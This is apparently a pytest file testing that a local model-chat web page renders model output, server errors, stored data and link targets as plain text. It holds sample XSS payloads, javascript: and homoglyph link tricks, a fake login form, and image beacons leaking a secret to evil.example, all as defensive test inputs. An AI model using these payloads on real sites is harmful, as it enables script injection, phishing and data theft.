"""Text from a model or a server is untrusted: none of it is executed, fetched, or shown as part of the page itself.

In addition to the assertions of each test, `open_chat` fails on any CSP violation, any alert, and any request to another
origin.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest

from support.fake_chat_server import CSP, FakeChatServer, Reply, Thought, error_body, page_folder

SCRIPT = "<script>window.pwned = 1</script>"
IMAGE = "<img src=x onerror='window.pwned = 1'>"
ATTACKS = [
    SCRIPT,
    IMAGE,
    f"**{IMAGE}** *{SCRIPT}*",
    "<svg onload='window.pwned = 1'><iframe srcdoc='<script>parent.pwned = 1</script>'>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/>",
    "<form action=//evil.example><input name=key><button>Log in</button></form>",
    f"| a | {IMAGE} |\n|---|---|\n| {SCRIPT} | b |",
    f"```{IMAGE}\n{SCRIPT}\n```",
    f'```"><img/src=x/onerror=window.pwned=1>\n{IMAGE}\n```',
    f"- [ ] {IMAGE}\n> {SCRIPT}\n\n# {IMAGE}",
    f"`{SCRIPT}`",
    "&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "\\<script>window.pwned = 1</script>",
    f"\\({SCRIPT}\\)\n\n\\[\n{IMAGE}\n\\]",
    "![x](https://evil.example/pixel.png?secret) ![x](//evil.example/p.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](https://evil.example/a.png"onerror="window.pwned=1)',
]
LINKS = [
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt:window.pwned=1)",
    "[a](java\tscript:window.pwned=1)",
    "[a](&#106;avascript:window.pwned=1)",
    "[a](<javascript:window.pwned=1>)",
    "[a](  javascript:window.pwned=1)",
    "[a](\u0001javascript:window.pwned=1)",
    "[a](data:text/html,<script>parent.pwned=1</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/x)",
    "[a](//evil.example)",
    "[a](/v1/models)",
    "[a](#x)",
    "<javascript:window.pwned=1>",
    "[a]: javascript:window.pwned=1\n\n[a]",
    "![a](javascript:window.pwned=1)",
    "[![a](javascript:window.pwned=1)](javascript:window.pwned=1)",
    "[a](view-source:https://e.org)",
    "[a](tel:123)",
]


def assert_untouched(chat: Any) -> None:
    assert chat.page.evaluate("window.pwned") is None
    result = chat.page.evaluate(
        """() => ['script', 'iframe', 'object', 'embed', 'link', 'style', 'base', 'img', 'video', 'audio', 'form', 'meta']
          .filter((tag) => document.querySelector(`#thread ${tag}, #conversations ${tag}, h1 ${tag}, #model ${tag}`))"""
    )
    assert result == []
    handlers = "[...document.querySelectorAll('*')].flatMap((n) => n.getAttributeNames()).filter((n) => n.startsWith('on'))"
    assert chat.page.evaluate(handlers) == []


def test_markup_in_answers_reasoning_and_questions_is_text(chat: Any, server: FakeChatServer) -> None:
    for number, attack in enumerate(ATTACKS):
        pieces = [attack[at : at + 3] for at in range(0, len(attack), 3)]
        server.replies.append(Reply([Thought(attack), *pieces]))
        chat.ask(attack)  # the question too, and therefore the conversation's title
        chat.page.click(".thinking summary")
        assert_untouched(chat)
        assert chat.page.inner_text(".bubble") == attack
        if number % 5 == 0:
            chat.reload()
            chat.wait_done()
            assert_untouched(chat)
        chat.page.click("#new-chat")
    shown = chat.page.evaluate("document.getElementById('conversations').textContent")
    assert SCRIPT in shown  # it is shown as text


@pytest.mark.every_run
def test_attacks_are_shown_verbatim(chat: Any, server: FakeChatServer) -> None:
    server.replies.append(Reply([f"{IMAGE}\n\n```{SCRIPT}\n{SCRIPT}\n```"]))
    chat.ask("Hi")
    assert chat.page.inner_text(".assistant p") == IMAGE
    assert chat.page.inner_text(".code code") == SCRIPT
    assert chat.page.inner_text(".code-language") == SCRIPT.split()[0]


def test_only_web_and_mail_links_are_links(chat: Any, server: FakeChatServer) -> None:
    server.replies.append(Reply(["\n\n".join(LINKS)]))
    chat.ask("Hi")
    assert chat.page.evaluate("[...document.querySelectorAll('#thread a')].map((a) => a.href)") == []
    assert "(javascript:window.pwned=1)" in chat.answer()  # neither a link nor hidden
    assert_untouched(chat)


def test_links_open_in_a_new_tab_and_show_their_target(chat: Any, server: FakeChatServer) -> None:
    tricks = {
        "[https://bank.example](https://evil.example/login)": ("https://evil.example/login", " (evil.example)"),
        "[a](https://bank.example@evil.example/)": ("https://bank.example@evil.example/", " (evil.example)"),
        "[a](https://еvil.example/)": ("https://xn--vil-qdd.example/", " (xn--vil-qdd.example)"),
        "[bank.example\u202e](http://evil.example)": ("http://evil.example/", " (evil.example)"),
        "https://bank.example@evil.example/": ("https://bank.example/", None),  # the rest is not part of the link
        "<https://еvil.example/>": ("https://xn--vil-qdd.example/", " (xn--vil-qdd.example)"),
        "[write](mailto:a@b.example)": ("mailto:a@b.example", " (mailto:a@b.example)"),
        "![chart](https://evil.example/pixel.png)": ("https://evil.example/pixel.png", " (evil.example)"),
        "[![chart](https://evil.example/p.png)](https://e.example)": ("https://e.example/", " (e.example)"),
    }
    server.replies.append(Reply(["\n\n".join(tricks)]))
    chat.ask("Hi")
    links = chat.page.evaluate(
        """() => [...document.querySelectorAll('#thread a')].map((a) => (
          { href: a.href, rel: a.rel, target: a.target, shown: a.nextElementSibling?.textContent }))"""
    )
    expected = [
        {"href": href, "rel": "noopener noreferrer", "target": "_blank", "shown": shown} for href, shown in tricks.values()
    ]
    assert links == expected
    assert_untouched(chat)


def test_markup_in_errors_names_and_models_is_text(open_chat: Callable[..., Any], server: FakeChatServer) -> None:
    server.models = [{"id": IMAGE, "max_model_len": 100}, {"id": SCRIPT}, {"id": 7}, None]
    chat = open_chat(["Failed to load resource"])
    assert chat.page.locator("#model option").all_inner_texts() == [IMAGE, SCRIPT]
    server.replies += [Reply(status=400, error=error_body(IMAGE + SCRIPT)), Reply(status=500, error=f"<html>{SCRIPT}</html>")]
    chat.ask("Hi")
    assert chat.page.inner_text(".error-detail") == IMAGE + SCRIPT
    chat.page.click(".error button")
    chat.wait_text(SCRIPT, ".error-detail")
    chat.page.locator("#conversations li").hover()
    chat.page.click("#conversations .icon-button")
    chat.page.click("#menu-rename")
    chat.page.fill("#rename-input", IMAGE)
    chat.page.keyboard.press("Enter")
    chat.page.wait_for_function("text => document.getElementById('title').textContent === text", arg=IMAGE)
    chat.page.locator("#conversations li").hover()
    chat.page.click("#conversations .icon-button")
    chat.page.click("#menu-delete")
    assert IMAGE in chat.page.inner_text("#delete-text")
    assert_untouched(chat)


def test_markup_in_storage_is_text(chat: Any) -> None:
    """Another page of the origin, or an old version, may have stored anything."""
    chat.ask("Hi")
    chat.page.evaluate(
        """async ([image]) => {
          const request = indexedDB.open('deepseek-optimizer-chat');
          const database = await new Promise((resolve) => (request.onsuccess = () => resolve(request.result)));
          const table = database.transaction('conversations', 'readwrite').objectStore('conversations');
          const messages = [{ id: image, role: image, content: image }];
          const put = table.put({ id: 'x', title: image, settings: { temperature: image, top_p: 0.5, nonsense: 1 }, messages });
          await new Promise((resolve) => (put.onsuccess = resolve));
          database.close();
          localStorage.setItem('dso.theme', image);
          localStorage.setItem('dso.defaults', '{"system": 1, "settings": [');
          localStorage.setItem('dso.unfinished', '{"a": 1}');
        }""",
        [IMAGE],
    )
    chat.reload()
    chat.page.click(f'.conversation[title="{IMAGE}"]')
    chat.wait_text(IMAGE)
    chat.ask("more", answers=2)
    assert chat.server.bodies[-1]["top_p"] == 0.5
    assert {"temperature", "nonsense"}.isdisjoint(chat.server.bodies[-1])
    assert_untouched(chat)


def test_only_the_page_and_its_api_are_fetched(chat: Any, server: FakeChatServer) -> None:
    server.replies.append(Reply(["![a](https://evil.example/a.png) https://evil.example/b <img src=https://evil.example/c>"]))
    chat.ask("Hi")
    paths = {url.removeprefix(server.url) for url in chat.requests}
    assert {"/", "/v1/models", "/v1/chat/completions"} < paths
    assert all(path.startswith(("/page/", "/v1/")) or path == "/" for path in paths)


def test_the_browser_blocks_html_from_text(chat: Any) -> None:
    """The policy of the tested page is effective: a mistake in the page would be blocked."""
    chat.expected_errors += ["TrustedHTML", "Content Security Policy"]
    assert (
        chat.page.evaluate("() => { try { document.body.innerHTML = '<b>x'; return 'set'; } catch (e) { return e.name; } }")
        == "TypeError"
    )
    assert "'unsafe-inline'" not in CSP and "'unsafe-eval'" not in CSP


UNSAFE = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|srcdoc|\beval\b|new Function"
)


def test_sources_use_no_html_injection_and_no_other_servers() -> None:
    files = [file for file in sorted(page_folder().iterdir()) if file.is_file() and file.name != "vendor.json"]
    assert {file.suffix for file in files} == {".html", ".css", ".js", ".svg"}
    for file in files:
        text = file.read_text(encoding="utf-8")
        if file.suffix == ".js":
            assert not UNSAFE.search(text), file.name
        outside = [
            url for url in re.findall(r"https?://[\w.-]+", text) if url not in ("http://www.w3.org", "https://example.org")
        ]
        assert outside == [], file.name
        assert len(text.splitlines()) < 500, file.name
    index = (page_folder() / "index.html").read_text(encoding="utf-8")
    assert not re.search(r"\son\w+=|\sstyle=|<script>|<style", index)
